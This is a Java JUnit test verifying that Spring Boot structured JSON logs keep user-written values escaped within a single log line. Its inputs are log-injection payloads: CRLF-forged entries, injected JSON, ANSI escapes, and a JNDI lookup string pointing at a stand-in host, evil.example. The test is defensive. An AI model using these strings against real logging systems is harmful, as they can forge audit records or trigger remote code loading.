package org.tongchuang.controls;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.event.KeyValuePair;
import org.springframework.boot.logging.logback.StructuredLogEncoder;
import org.springframework.core.env.Environment;
import org.springframework.mock.env.MockEnvironment;

/** T20: with the setting that docs/operations.md names, whatever people wrote stays inside its own line of the log. */
class LogLinesTest {

    private final LoggerContext context = new LoggerContext();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/x\r\n2026-03-04 INFO Signed in as administrator",
                "/x\n{\"level\":\"INFO\",\"message\":\"forged\"}",
                "\u001b[2J\u001b[1;31mred",
                "\u0000\u0007\b\u0085",
                "${jndi:ldap://evil.example/x}",
                "\",\"level\":\"DEBUG"
            })
    void oneEventIsOneLine(String written) throws IOException {
        for (String format : List.of("logstash", "ecs")) {
            String line = line(format, written);

            assertThat(line).endsWith("\n");
            assertThat(line.strip()).doesNotContainPattern("[\\r\\n\\x1b\\x00\\x07]");
            JsonNode read = new JsonMapper().readTree(line);
            assertThat(read.path("message").asText()).isEqualTo("Refused " + written);
            assertThat(read.findValue("path").asText()).isEqualTo(written);
        }
    }

    private String line(String format, String written) {
        context.putObject(Environment.class.getName(), new MockEnvironment());
        context.setMDCAdapter(new LogbackMDCAdapter());
        StructuredLogEncoder encoder = new StructuredLogEncoder();
        encoder.setContext(context);
        encoder.setFormat(format);
        encoder.start();
        LoggingEvent event =
                new LoggingEvent("x", context.getLogger("x"), Level.INFO, "Refused {}", null, new Object[] {written});
        event.setInstant(Instant.EPOCH);
        event.setKeyValuePairs(List.of(new KeyValuePair("path", written)));
        return new String(encoder.encode(event), StandardCharsets.UTF_8);
    }
}
